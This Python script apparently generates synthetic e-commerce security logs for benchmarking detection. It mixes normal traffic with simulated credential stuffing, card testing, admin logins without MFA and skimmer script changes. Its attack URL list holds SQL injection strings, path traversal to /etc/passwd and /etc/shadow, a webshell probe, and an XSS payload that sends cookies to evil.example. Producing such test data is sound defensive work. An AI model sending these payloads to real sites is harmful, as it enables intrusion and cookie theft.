#!/usr/bin/env python3
"""Generates a JSON-lines file of store events (ECS fields) with ~1.5% attacks.

Usage: bench/gen_store_events.py N OUT.jsonl [SEED]
Deterministic for a given seed. Mix: storefront requests, customer and staff logins,
payments, admin actions and vault reveals; attacks: SQL injection, path traversal,
XSS, scanners, webshell probes, credential-stuffing bursts, card-testing bursts,
admin logins without MFA, skimmer script changes.
"""
import json, random, sys
from datetime import datetime, timedelta, timezone

n = int(sys.argv[1]); out = sys.argv[2]; rnd = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 7)
t = datetime(2026, 11, 20, tzinfo=timezone.utc)
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 Version/18.1 Safari/605.1.15"]
PATHS = ["/", "/products/blue-mug", "/products/red-scarf", "/cart", "/checkout", "/search", "/account", "/static/app.js", "/static/site.css", "/api/cart/items"]
ATTACK_URLS = [
    ("/products?id=1' UNION SELECT username,password FROM users--", "sqli"),
    ("/search?q=1%27%20OR%20%271%27%3D%271", "sqli"),
    ("/static/../../../../etc/passwd", "traversal"),
    ("/download?file=..%2f..%2f..%2fetc%2fshadow", "traversal"),
    ("/search?q=<script>document.location='https://evil.example/?c='+document.cookie</script>", "xss"),
    ("/wp-content/uploads/shell.php?cmd=id", "webshell"),
    ("/.env", "probe"), ("/.git/config", "probe"),
]
SCANNERS = ["sqlmap/1.8.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.00 (Nikto/2.1.6)", "nuclei - open-source project (github.com/projectdiscovery/nuclei)"]

def ip(r):
    return f"{r.randint(11, 223)}.{r.randint(0,255)}.{r.randint(0,255)}.{r.randint(1,254)}"

def ts():
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"

def web(path, ua, src, status=200, method="GET"):
    q = path.split("?", 1)
    e = {"@timestamp": ts(), "event.category": "web", "source.ip": src, "http.request.method": method,
         "url.original": path, "url.path": q[0], "http.response.status_code": status, "user_agent.original": ua,
         "http.response.body.bytes": rnd.randint(200, 40000)}
    if len(q) > 1:
        e["url.query"] = q[1]
    return e

events = 0
with open(out, "w") as f:
    def emit(e):
        global events
        f.write(json.dumps(e, separators=(",", ":")) + "\n"); events += 1
    while events < n:
        t += timedelta(milliseconds=rnd.randint(5, 120))
        x = rnd.random()
        if x < 0.015:  # attacks
            k = rnd.random()
            src = ip(rnd)
            if k < 0.5:
                url, _ = rnd.choice(ATTACK_URLS)
                emit(web(url, rnd.choice(UAS + SCANNERS), src, rnd.choice([200, 404, 403, 500])))
            elif k < 0.65:  # credential stuffing burst from one source
                for i in range(25):
                    t += timedelta(milliseconds=200)
                    emit({"@timestamp": ts(), "event.category": "authentication", "event.action": "login", "event.outcome": "failure",
                          "user.name": f"victim{rnd.randint(1, 500000)}@example.com", "source.ip": src, "service.name": "storefront"})
            elif k < 0.8:  # card testing: small declined payments
                for i in range(12):
                    t += timedelta(milliseconds=500)
                    emit({"@timestamp": ts(), "event.action": "payment.authorize", "event.outcome": "failure", "source.ip": src,
                          "bulwark.payment.amount": round(rnd.uniform(0.5, 2.0), 2), "bulwark.payment.currency": "USD",
                          "bulwark.payment.card_fingerprint": f"fp{rnd.getrandbits(48):x}", "error.type": "card_declined"})
            elif k < 0.9:
                emit({"@timestamp": ts(), "event.action": "login", "event.outcome": "success", "user.name": "admin@shop.example",
                      "user.roles": ["admin"], "source.ip": src, "source.geo.country_iso_code": "RU", "bulwark.mfa": False,
                      "bulwark.known_countries": ["US"], "service.name": "admin"})
            else:
                emit({"@timestamp": ts(), "event.action": "script.changed", "bulwark.page.type": "checkout",
                      "bulwark.script.url": "https://shop.example/static/checkout.js", "bulwark.script.hash": f"{rnd.getrandbits(128):x}",
                      "bulwark.script.previous_hash": f"{rnd.getrandbits(128):x}", "bulwark.script.approved": False})
        elif x < 0.80:
            emit(web(rnd.choice(PATHS), rnd.choice(UAS), ip(rnd), rnd.choice([200, 200, 200, 304, 404])))
        elif x < 0.90:
            emit({"@timestamp": ts(), "event.category": "authentication", "event.action": "login",
                  "event.outcome": "success" if rnd.random() < 0.93 else "failure",
                  "user.name": f"customer{rnd.randint(1, 200000)}@example.com", "source.ip": ip(rnd), "service.name": "storefront"})
        elif x < 0.97:
            emit({"@timestamp": ts(), "event.action": "payment.authorize", "event.outcome": "success" if rnd.random() < 0.97 else "failure",
                  "source.ip": ip(rnd), "bulwark.payment.amount": round(rnd.uniform(8, 400), 2), "bulwark.payment.currency": "USD",
                  "bulwark.payment.card_fingerprint": f"fp{rnd.getrandbits(48):x}"})
        else:
            emit({"@timestamp": ts(), "event.action": "vault.reveal", "event.outcome": "success", "user.name": "key:support-desk",
                  "bulwark.customer.id": f"c{rnd.randint(1, 200000)}", "bulwark.vault.elements": ["email", "postal_address"],
                  "bulwark.vault.purpose": "support", "bulwark.principal.type": "service"})
print(f"{events} events written to {out}", file=sys.stderr)
